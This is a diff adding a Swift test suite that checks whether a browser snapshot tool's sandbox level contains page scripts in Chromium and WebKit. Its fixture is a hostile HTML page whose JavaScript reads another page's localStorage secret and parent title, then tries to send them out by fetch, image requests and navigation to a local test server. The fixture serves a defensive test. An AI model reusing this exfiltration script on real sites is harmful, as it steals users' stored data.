@@ -1,0 +1,139 @@
+import Foundation
+import TestSupport
+import Testing
+
+@testable import BrowserProof
+
+extension BrowserSuites {
+    /// What the script of a snapshot can reach at each level, in both engines.
+    @Suite(.serialized) struct SealedScriptTests {
+        /// A page whose script reads what another file has stored and tries to leave with it: by a request, by the window
+        /// around it and by itself. The last takes it away, so what it saw is told before.
+        private static func hostile(_ server: LoopbackServer) -> String {
+            """
+            <!doctype html><title>Hostile</title><a id="jump" href="#far">down</a>
+            <p style="height:5000px">tall</p><p id="far">far</p>
+            <script>
+            var away = "\(server.origin)", seen = { storage: "", parent: "", jumped: false };
+            try { seen.storage = String(localStorage.getItem("secret")) } catch (error) { seen.storage = "refused" }
+            try { seen.parent = String(parent.document.title) } catch (error) { seen.parent = "refused" }
+            function tell() { parent.postMessage(seen, "*") }
+            setInterval(tell, 20);
+            try { fetch(away + "/fetch?" + seen.storage).catch(function () {}) } catch (error) {}
+            new Image().src = away + "/image?" + seen.storage;
+            setTimeout(function () { document.getElementById("jump").click() }, 100);
+            setTimeout(function () { seen.jumped = scrollY > 1000; tell() }, 400);
+            setTimeout(function () { try { top.location = away + "/top?" + seen.storage } catch (error) {} }, 600);
+            setTimeout(function () { location = away + "/self?" + seen.storage }, 900);
+            </script>
+            """
+        }
+
+        /// The sealed page, and the page that stores the secret.
+        private struct Sample {
+            let folder: TestFolder
+            let server: LoopbackServer
+            var sealed: String { URL(fileURLWithPath: folder["page.html"]).absoluteString }
+            var store: String { URL(fileURLWithPath: folder["store.html"]).absoluteString }
+
+            init(_ level: String) throws {
+                folder = try TestFolder()
+                server = try LoopbackServer()
+                server.route("/", .text(SealedScriptTests.hostile(server)))
+                try folder.write(
+                    "<!doctype html><title>Other</title><script>localStorage.setItem('secret', 'leaked')</script>",
+                    to: "store.html")
+                let arguments = [
+                    "snapshot", server.url("/"), "-o", "page.html", "--no-cache", "--scripts", level,
+                ]
+                let outcome = try SitegenBinary.command(arguments, in: folder.path).run()
+                #expect(outcome.code == 0, "\(outcome)")
+                server.forgetRequests()
+            }
+        }
+
+        private static let listen =
+            "(window.addEventListener('message', e => { window.told = JSON.stringify(e.data) }), 1)"
+
+        @Test func aSandboxInChromiumReadsNothingAndGoesNowhere() async throws {
+            guard let browser = try await TestBrowser.start() else { return }
+            let sample = try Sample("sandbox")
+            let page = try await browser.page()
+            try await page.open(sample.store)
+            try await page.open(sample.sealed)
+            try await page.evaluate(Self.listen)
+            try await page.expect("/\"jumped\":true/.test(window.told)")
+            #expect(
+                try await page.text("window.told").contains("\"storage\":\"refused\",\"parent\":\"refused\""))
+            try await Task.sleep(for: .seconds(1.5))
+            #expect(try await page.text("location.href") == sample.sealed)
+            #expect(sample.server.requests.isEmpty, "\(sample.server.requests.map(\.target))")
+            _ = try await browser.closeAndReadRequests()
+        }
+
+        /// What the sandbox is for: the same page, kept as it is, gets away with the secret.
+        @Test func aKeptScriptInChromiumLeavesWithWhatItReads() async throws {
+            guard let browser = try await TestBrowser.start() else { return }
+            let sample = try Sample("keep")
+            let page = try await browser.page()
+            try await page.open(sample.store)
+            try await page.open(sample.sealed)
+            for _ in 0..<100 where sample.server.requests.isEmpty {
+                try await Task.sleep(for: .milliseconds(100))
+            }
+            let targets = sample.server.requests.map(\.target)
+            #expect(targets.contains("/top?leaked") || targets.contains("/self?leaked"), "\(targets)")
+            #expect(!targets.contains { $0.hasPrefix("/fetch") || $0.hasPrefix("/image") })
+            _ = try await browser.closeAndReadRequests()
+        }
+
+        @Test func aSandboxInWebKitReadsNothingAndGoesNowhere() async throws {
+            let sample = try Sample("sandbox")
+            guard let session = try await session() else { return }
+            try await open(sample.store, session)
+            try await open(sample.sealed, session)
+            _ = try await value(Self.listen, session)
+            var told = ""
+            for _ in 0..<100 where !told.contains("\"jumped\":true") {
+                told = try await value("window.told || ''", session).text ?? ""
+                try await Task.sleep(for: .milliseconds(30))
+            }
+            #expect(told == "{\"storage\":\"refused\",\"parent\":\"refused\",\"jumped\":true}")
+            try await Task.sleep(for: .seconds(1.5))
+            #expect(try await value("location.href", session).text == sample.sealed)
+            #expect(session.proxy.takeRequests().filter { $0.contains("127.0.0.1") }.isEmpty)
+            #expect(sample.server.requests.isEmpty, "\(sample.server.requests.map(\.target))")
+        }
+
+        @Test func aKeptScriptInWebKitReadsWhatOthersStored() async throws {
+            let sample = try Sample("keep")
+            guard let session = try await session() else { return }
+            try await open(sample.store, session)
+            try await open(sample.sealed, session)
+            var targets: [String] = []
+            for _ in 0..<100 where !targets.contains(where: { $0.contains("leaked") }) {
+                targets += session.proxy.takeRequests() + sample.server.requests.map(\.target)
+                try await Task.sleep(for: .milliseconds(50))
+            }
+            #expect(targets.contains { $0.contains("leaked") }, "\(targets)")
+        }
+
+        private func session() async throws -> WebKitSession? {
+            do { return try await WebKitSession(try BrowserSearch.webKit(), limit: 60) } catch {
+                withKnownIssue("WebKitGTK is not installed, and no snapshot was opened in it") {
+                    Issue.record("\(error)")
+                }
+                return nil
+            }
+        }
+
+        private func open(_ address: String, _ session: WebKitSession) async throws {
+            try await session.call("POST", "/url", ["url": .string(address)], seconds: 60)
+        }
+
+        private func value(_ expression: String, _ session: WebKitSession) async throws -> JSONNode {
+            try await session.call(
+                "POST", "/execute/sync", ["script": .string("return " + expression), "args": []], seconds: 60)
+        }
+    }
+}
